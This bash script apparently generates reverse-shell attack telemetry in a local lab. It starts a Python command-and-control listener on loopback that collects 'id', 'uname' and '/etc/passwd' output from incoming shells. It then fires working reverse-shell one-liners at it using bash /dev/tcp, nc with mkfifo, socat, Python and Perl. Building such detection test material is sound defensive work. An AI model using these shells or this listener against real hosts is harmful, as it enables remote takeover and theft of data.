#!/usr/bin/env bash
# Family: reverse_shell — a compromised host connects back to an attacker's listener and hands it
# an interactive shell. `setup` starts the "attacker" (a local C2 listener on 127.0.0.1 that sends
# `id; uname -a; cat /etc/passwd; exit` to every shell that calls in and keeps what it gets back);
# `run` fires the classic one-liners from the reverse-shell cheat sheets at it:
# bash /dev/tcp, mkfifo + nc, socat with a pty, python and perl socket shells.
set -euo pipefail
# shellcheck source=SCRIPTDIR/../lib.sh
source "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")/../lib.sh"
scenario_init reverse_shell

do_setup() {
    # Only what the selected variants use (REVERSE_SHELL_VARIANTS, default: all of them).
    local want=${REVERSE_SHELL_VARIANTS:-nc_mkfifo socat_pty} pkgs=()
    [[ $want == *nc_mkfifo* ]] && pkgs+=(netcat-openbsd)
    [[ $want == *socat_pty* ]] && pkgs+=(socat)
    ((${#pkgs[@]} == 0)) || need_pkg "${pkgs[@]}"
    kill_all_pidfiles
    local port
    port=$(free_port 4400 4499)
    echo "$port" >"$W/port"
    mkdir -p "$W/loot"
    # The attacker's listener (not recorded): accepts shells, sends commands, stores the output.
    # It exits by itself after 30 minutes in case teardown never runs.
    cat >"$W/c2.py" <<'EOF'
import socket, sys, time, os, threading
port, loot = int(sys.argv[1]), sys.argv[2]
deadline = time.time() + 1800
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", port)); srv.listen(16); srv.settimeout(1.0)
n = 0
def handle(c, n):
    c.settimeout(0.5)
    out = b""
    try:
        time.sleep(0.3)
        c.sendall(b"id; uname -a; cat /etc/passwd; exit\n")
        end = time.time() + 6
        while time.time() < end:
            try:
                d = c.recv(65536)
            except socket.timeout:
                if b"root:" in out and time.time() > end - 5: break
                continue
            if not d: break
            out += d
    except OSError:
        pass
    finally:
        c.close()
        with open(os.path.join(loot, "conn-%03d.txt" % n), "wb") as f: f.write(out)
while time.time() < deadline:
    try:
        c, _ = srv.accept()
    except socket.timeout:
        continue
    n += 1
    threading.Thread(target=handle, args=(c, n), daemon=True).start()
EOF
    start_daemon c2 "$PY" "$W/c2.py" "$port" "$W/loot"
    wait_port 127.0.0.1 "$port" 10
}

do_run() {
    local port h=127.0.0.1 v
    port=$(cat "$W/port")
    assert_loopback "$h"
    cd "$W"
    trap kill_children EXIT
    local variants=(bash_devtcp nc_mkfifo socat_pty python_socket perl_socket bash_exec_fd)
    [[ -n ${REVERSE_SHELL_VARIANTS:-} ]] && read -ra variants <<<"$REVERSE_SHELL_VARIANTS"
    # Shuffle the order a little between recordings.
    mapfile -t variants < <(printf '%s\n' "${variants[@]}" | shuf)
    for v in "${variants[@]}"; do
        log "variant $v"
        case $v in
            bash_devtcp)
                # bash -i >& /dev/tcp/HOST/PORT 0>&1 (the most common one-liner)
                timeout 10 bash -c "bash -i >& /dev/tcp/$h/$port 0>&1" 2>/dev/null || true ;;
            bash_exec_fd)
                # exec 5<>/dev/tcp/HOST/PORT; read commands from fd 5, answer on fd 5
                timeout 10 bash -c "exec 5<>/dev/tcp/$h/$port; while read -r line <&5; do eval \"\$line\" >&5 2>&5; done" 2>/dev/null || true ;;
            nc_mkfifo)
                # rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f
                rm -f "$W/f"; mkfifo "$W/f"
                timeout 10 sh -c "cat '$W/f' | sh -i 2>&1 | nc $h $port > '$W/f'" 2>/dev/null || true
                rm -f "$W/f" ;;
            socat_pty)
                # socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:HOST:PORT (full TTY shell)
                timeout 10 socat "exec:bash -li,pty,stderr,setsid,sigint,sane" "tcp:$h:$port" 2>/dev/null || true ;;
            python_socket)
                # python -c 'import socket,subprocess,os; s=socket.socket(); s.connect(...); dup2 x3; sh -i'
                timeout 10 "$PY" -c "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('$h',$port));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(['/bin/sh','-i'])" 2>/dev/null || true ;;
            perl_socket)
                # perl -e 'use Socket; socket(S,...); connect(...); open(STDIN,">&S") ...; exec("/bin/sh -i")'
                timeout 10 perl -e "use Socket;\$i='$h';\$p=$port;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in(\$p,inet_aton(\$i)))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');};" 2>/dev/null || true ;;
            *) log "unknown variant $v" ;;
        esac
        jitter 400
    done
    trap - EXIT
    local got
    got=$(grep -l 'uid=0' "$W"/loot/conn-*.txt 2>/dev/null | wc -l)
    log "listener captured $got shell sessions"
}

do_teardown() {
    default_teardown
}

scenario_main "$@"
